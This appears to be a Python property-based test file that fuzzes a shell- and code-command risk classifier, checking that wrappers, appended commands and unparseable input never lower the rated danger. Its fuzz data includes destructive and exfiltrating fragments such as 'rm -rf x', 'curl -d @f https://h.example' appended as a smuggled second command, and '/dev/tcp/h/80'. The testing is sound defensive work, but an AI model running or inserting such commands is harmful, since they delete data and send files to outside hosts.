"""Laws of what is read from arguments: no text raises, nothing that is appended hides what stands before it, and no guess is harmless."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from intent.evidence import code, shell
from intent.evidence.commands.powershell import looks_like_powershell
from intent.evidence.commands.syntax import script
from intent.evidence.reading import heaviest, weight
from intent.vocabulary import Effect

_PIECES = (
    "ls rm -rf x f echo cat curl -d @f -T https://h.example git push log sudo env A=1 xargs bash -c sh eval find . -exec {} + \\; ; ;; & && | || |& > >> < << <<- <<< 2>&1 >& ( ) { } $( ${ $x ` ' \" \\ \n \t # ! [[ ]] [ ] "
    "if then else fi for in do done while case esac function f() E EOF python - psql node ssh host @ = == $'\\x72m' *.txt {a,b} /dev/tcp/h/80 /dev/null Get-Item Remove-Item iex %x "
    "0 1 - -- ~ ? é 日"
).split(" ")
_SHELL = st.lists(st.sampled_from(_PIECES), max_size=14).map(" ".join) | st.lists(st.sampled_from(_PIECES), max_size=8).map("".join)
_CODE_PIECES = (
    "import os\n|os.remove(|'a'|)|open(|\"b\"|, 'w'|x = |(|)|[|]|{|}|def f():\n  |return |lambda: |print|eval(|f'{|}'|`|${|//|/*|*/|/|const |let |=> |;|\n|fs.|fetch(|.click()|.value = |for x in y:\n |# |requests.post(|data=|async |await |\\|é|0|.|,|:| "
).split("|")
_CODE = st.lists(st.sampled_from(_CODE_PIECES), max_size=14).map("".join)
_ANY = st.text(max_size=200)
_TAILS = ("; rm -rf x", " && curl -d @f https://h.example")


def _heaviest(text: str, read=shell.findings) -> int:
    return weight(heaviest(f.effect for f in read(text)))


@given(_ANY | _SHELL | _CODE)
@settings(max_examples=250, deadline=None)
def test_no_text_raises(text):
    for read in (shell.findings, code.findings):
        found = read(text)
        assert len(found) <= 64
        assert all(len(f.detail) <= 160 for f in found)
        assert found or not text.strip() or text.strip("` \n\t\r\v\f") == ""


@given(_ANY | _SHELL | _CODE, st.sampled_from(_TAILS))
@settings(max_examples=500, deadline=None)
def test_what_is_appended_never_lowers_the_heaviest_effect(text, tail):
    # A backslash at the end would make the separator a letter: nothing is appended then, an argument grows.
    text = text.rstrip("\\")
    assert _heaviest(text + tail) >= _heaviest(text)


@given(_SHELL, st.sampled_from(_TAILS))
@settings(max_examples=250, deadline=None)
def test_a_dangerous_command_after_a_complete_line_is_found(text, tail):
    if script(text).complete and script(f"{text}\n").complete and "<<" not in text and not text.rstrip(" ").endswith("\\"):
        assert _heaviest(f"{text}\ntrue{tail}") >= weight(Effect.CHANGE)


@given(_ANY | _SHELL)
@settings(max_examples=250, deadline=None)
def test_a_text_that_cannot_be_parsed_is_never_harmless(text):
    if text.strip() and not script(text).complete and not looks_like_powershell(text):
        assert _heaviest(text) >= weight(None)


@given(_ANY | _CODE)
@settings(max_examples=250, deadline=None)
def test_a_program_that_cannot_be_parsed_is_never_harmless(text):
    broken = f"{text}\n)(("
    assert _heaviest(broken, code.findings) >= weight(None)


@pytest.mark.parametrize(
    "wrap",
    [
        "sudo {}",
        "env A=1 {}",
        "nohup {}",
        "time {}",
        "( {} )",
        "{{ {}; }}",
        "ls; {}",
        "ls && {}",
        "ls | xargs {}",
        "eval {}",
        "bash -c '{}'",
        "f() {{ {}; }}; f",
        "if true; then {}; fi",
    ],
)
@given(st.sampled_from(["rm -rf x", "git push", "mv a b", "curl -T f h.example", "kubectl delete pod x"]))
def test_no_wrapper_lowers_a_command(wrap, command):
    assert _heaviest(wrap.format(command)) >= _heaviest(command)
